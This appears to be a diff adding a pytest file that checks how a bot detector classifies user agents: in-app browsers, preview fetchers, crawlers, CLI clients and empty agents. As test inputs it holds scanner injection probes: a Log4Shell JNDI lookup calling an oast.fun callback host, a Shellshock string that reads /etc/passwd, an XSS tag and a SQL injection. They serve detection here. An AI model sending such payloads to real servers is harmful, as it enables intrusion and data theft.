@@ -1,0 +1,165 @@
+"""Bot verdicts, class by class: the kind and the reason each kind of client gets, the
+in-app browsers and their preview fetchers of bench/corpus/bots/apps.jsonl, and the reason
+reaching the click row and the per-reason counts."""
+
+from __future__ import annotations
+
+import json
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from consumer.enrich import Enricher
+from consumer.enrich.bots import BOT_KINDS, BOT_REASONS, BotDetector
+from tests.consumer.conftest import CHROME, MakeEvent
+
+APPS: list[dict[str, Any]] = [
+    json.loads(line)
+    for line in (Path(__file__).parents[2] / "bench/corpus/bots/apps.jsonl").read_text().splitlines()
+]
+
+
+def _app_id(case: dict[str, Any]) -> str:
+    return f"{case['app']}:{case['label']}:{case['ua'][:50]!r}"
+
+
+@pytest.mark.parametrize("case", [c for c in APPS if c["label"] == "person"], ids=_app_id)
+def test_in_app_browsers_are_people(case: dict[str, Any]) -> None:
+    assert BotDetector().verdict("GET", case["ua"]) == ("", "")
+
+
+@pytest.mark.parametrize("case", [c for c in APPS if c["label"] == "bot"], ids=_app_id)
+def test_their_link_preview_fetchers_are_bots(case: dict[str, Any]) -> None:
+    assert BotDetector().verdict("GET", case["ua"]).kind in ("preview", "crawler")
+
+
+def test_every_app_is_covered_both_ways() -> None:
+    apps = {"whatsapp", "instagram", "facebook", "tiktok", "snapchat", "line", "telegram", "linkedin", "x"}
+    apps.add("google_app")
+    assert {c["app"] for c in APPS if c["label"] == "person"} == apps
+    assert {c["app"] for c in APPS if c["label"] == "bot"} == apps
+
+
+@pytest.mark.parametrize(
+    ("ua", "kind", "reason"),
+    [
+        # Link-preview fetchers.
+        ("WhatsApp/2.23.20.0 A", "preview", "preview"),
+        ("facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)", "preview", "preview"),
+        ("TelegramBot (like TwitterBot)", "preview", "preview"),
+        (
+            "Mozilla/5.0 (compatible; Snap URL Preview Service; bot; snapchat; https://developers.snap.com/robots)",
+            "preview",
+            "preview",
+        ),
+        # CDN and proxy fetchers.
+        ("Amazon CloudFront", "crawler", "crawler_list"),
+        ("Cloudflare-Traffic-Manager/1.0", "crawler", "crawler_list"),
+        # Site monitors.
+        ("Datadog Agent/7.69.2", "crawler", "crawler_list"),
+        ("UptimeRobot/2.0", "crawler", "crawlerdetect"),
+        ("Pingdom.com_bot_version_1.4_(http://www.pingdom.com/)", "crawler", "crawlerdetect"),
+        # SEO and AI crawlers, short product tokens among them.
+        ("Anomura/1.2", "crawler", "crawler_list"),
+        ("GPTBot/1.0", "crawler", "crawlerdetect"),
+        ("ClaudeBot/1.0", "crawler", "crawlerdetect"),
+        ("AhrefsBot/7.0", "crawler", "crawlerdetect"),
+        (
+            "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)"
+            " Chrome/116.0.1938.76 Safari/537.36",
+            "crawler",
+            "crawlerdetect",
+        ),
+        # Imitating a browser in a way no browser writes, named by no list.
+        (
+            "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko; Acme-Verifier)"
+            " Chrome/120.0.0.0 Safari/537.36",
+            "automated",
+            "forged_browser",
+        ),
+        # App-association fetchers (apple-app-site-association, Digital Asset Links).
+        ("AASA-Bot/1.0.0", "crawler", "crawlerdetect"),
+        ("com.apple.swcd (unknown version) CFNetwork/1220.1 Darwin/20.3.0", "crawler", "crawlerdetect"),
+        # Injection probes of security scanners.
+        ("${jndi:ldap://${hostName}.useragent.example.oast.fun}", "probe", "probe"),
+        ("() { :; }; /bin/bash -c 'cat /etc/passwd'", "probe", "probe"),
+        ("<script>alert(1)</script>", "probe", "probe"),
+        ("' OR 1=1 --", "probe", "probe"),
+        # HTTP libraries and command-line tools.
+        ("curl/8.4.0", "cli", "cli"),
+        ("python-requests/2.31.0", "cli", "cli"),
+        ("Go-http-client/2.0", "cli", "cli"),
+        ("okhttp/4.12.0", "cli", "cli"),
+        # Feed readers and media frameworks.
+        ("Akregator/4.12.3; syndication SUSE", "automated", "feed_media"),
+        (
+            "AppleCoreMedia/1.0.0.21E236 (iPhone; U; CPU OS 17_4 like Mac OS X; en_us)",
+            "automated",
+            "feed_media",
+        ),
+        # Custom clients: nothing a person holds is shaped like these.
+        ("MyCompanyCRM/3.1", "automated", "not_browser"),
+        ("acme-sync", "automated", "not_browser"),
+        ("Mozilla/5.0", "automated", "not_browser"),
+        # Empty user agents and HEAD requests.
+        ("", "empty_ua", "empty_ua"),
+    ],
+)
+def test_kind_and_reason(ua: str, kind: str, reason: str) -> None:
+    assert BotDetector().verdict("GET", ua) == (kind, reason)
+    assert kind in BOT_KINDS and reason in BOT_REASONS
+
+
+@pytest.mark.parametrize(
+    "ua",
+    [
+        CHROME,
+        # Devices whose maker put "bot" in the model name: the crawler lists are asked
+        # without the model.
+        "Mozilla/5.0 (Linux; Android 8.1.0; XBot Junior) AppleWebKit/537.36 (KHTML, like Gecko) "
+        "Chrome/87.0.4280.101 Mobile Safari/537.36",
+        # Chromium's network stack in a TV browser: crawlerdetect's "Cron" would match.
+        "com.tcl.browser/660067 (Linux; U; Android 12; tr_TR; Chromecast; Build/STTK.230808.004; "
+        "Cronet/114.0.5735.33)",
+        # Not the strict grammar, but browser-shaped: an old phone, Android's own client.
+        "Nokia6300/2.0 (05.00) Profile/MIDP-2.0 Configuration/CLDC-1.1",
+        "Dalvik/2.1.0 (Linux; U; Android 14; Pixel 8 Build/AP1A.240305.019)",
+        # A media framework inside a browser's user agent is an app's web view.
+        "Mozilla/5.0 (Linux; Android 9; AFTKAUK001 Build/PS7681.4384N; wv) AppleWebKit/537.36 "
+        "(KHTML, like Gecko) Version/4.0 Chrome/124.0.6367.248 Mobile Safari/537.36/8.5.0 "
+        "(Linux;Android 9) ExoPlayerLib/2.6.1",
+    ],
+)
+def test_people(ua: str) -> None:
+    assert BotDetector().verdict("GET", ua) == ("", "")
+
+
+def test_a_device_model_naming_automation_still_counts() -> None:
+    seznam = (
+        "Mozilla/5.0 (Linux; U; Android 4.1.2; cs-cz; Seznam screenshot-generator Build/Q3) "
+        "AppleWebKit/534.30 (KHTML, like Gecko) Version/4.0 Mobile Safari/534.30"
+    )
+    assert BotDetector().verdict("GET", seznam) == ("crawler", "crawlerdetect")
+
+
+def test_head_reason() -> None:
+    assert BotDetector().verdict("HEAD", CHROME) == ("head", "head")
+
+
+def test_reasons_are_counted_per_request_cached_or_not() -> None:
+    detector = BotDetector()
+    for _ in range(3):
+        detector.verdict("GET", "curl/8.4.0")
+        detector.verdict("GET", CHROME)
+    detector.verdict("HEAD", CHROME)
+    assert set(detector.reasons) == set(BOT_REASONS)
+    assert {reason: count for reason, count in detector.reasons.items() if count} == {"cli": 3, "head": 1}
+
+
+def test_the_click_row_carries_the_reason(enricher: Enricher, make_event: MakeEvent) -> None:
+    probe = enricher.enrich(make_event(user_agent="${jndi:ldap://x.oast.fun/a}"))
+    assert (probe.is_bot, probe.bot_kind, probe.bot_reason) == (True, "probe", "probe")
+    person = enricher.enrich(make_event(user_agent=CHROME))
+    assert (person.is_bot, person.bot_kind, person.bot_reason) == (False, "", "")
+    assert enricher.bots.reasons["probe"] == 1
